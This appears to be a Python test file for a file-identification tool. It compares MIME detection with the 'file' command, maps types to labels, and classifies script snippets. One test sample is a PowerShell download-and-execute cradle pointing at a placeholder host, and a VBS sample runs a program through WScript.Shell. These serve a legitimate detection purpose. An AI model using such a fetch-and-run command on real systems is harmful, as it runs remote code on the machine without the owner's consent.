"""Identification agrees with ``file --mime-type`` across a varied corpus of real files."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from assay.services.identify import classify, identify_bytes, identify_path
from tests.corpus import corpus

pytestmark = pytest.mark.skipif(shutil.which("file") is None, reason="the `file` command is a Debian package")


def file_mime_types(paths: list[Path]) -> dict[Path, str]:
    answers: dict[Path, str] = {}
    for start in range(0, len(paths), 200):
        chunk = paths[start : start + 200]
        output = subprocess.run(
            ["file", "--mime-type", "-b", "--", *map(str, chunk)], capture_output=True, text=True, check=True
        ).stdout.splitlines()
        answers.update(zip(chunk, output, strict=True))
    return answers


def test_mime_types_agree_with_file_on_at_least_98_percent(tmp_path: Path) -> None:
    paths = corpus(tmp_path / "generated")
    assert len(paths) >= 500
    expected = file_mime_types(paths)
    disagreements = []
    for path in paths:
        ours = identify_path(path).mime
        if ours != expected[path]:
            disagreements.append((str(path), ours, expected[path]))
    agreement = 1 - len(disagreements) / len(paths)
    assert agreement >= 0.98, disagreements[:20]


def test_types_follow_the_mime_table() -> None:
    assert (
        classify("application/x-dosexec", "PE32+ executable (GUI) x86-64, for MS Windows")
        == "executable/windows/pe64"
    )
    assert (
        classify("application/x-dosexec", "PE32 executable (DLL) (console) Intel 80386")
        == "executable/windows/dll32"
    )
    assert classify("application/x-sharedlib", "ELF 64-bit LSB shared object") == "executable/linux/elf64"
    assert classify("application/vnd.tcpdump.pcap", "pcap capture file") == "network/tcpdump"
    assert classify("image/png", "PNG image data") == "image/png"
    assert classify("application/x-nothing-known", "data") == "unknown"
    assert identify_bytes(b"").file_type == "empty"


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (b'$c = New-Object System.Net.WebClient; IEX $c.DownloadString("http://x/a")', "code/powershell"),
        (b'Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n', "code/vbs"),
        (b"var a = 1;\nfunction f(x) { return x; }\nconst g = () => a;\n", "code/javascript"),
        (b"@echo off\nset TARGET=%~dp0\\x\ngoto :end\n", "code/batch"),
        (b"Dear diary, today was a plain text day.\n", "text/plain"),
    ],
)
def test_scripts_that_libmagic_calls_text_are_told_apart(text: bytes, kind: str) -> None:
    assert identify_bytes(text).file_type == kind
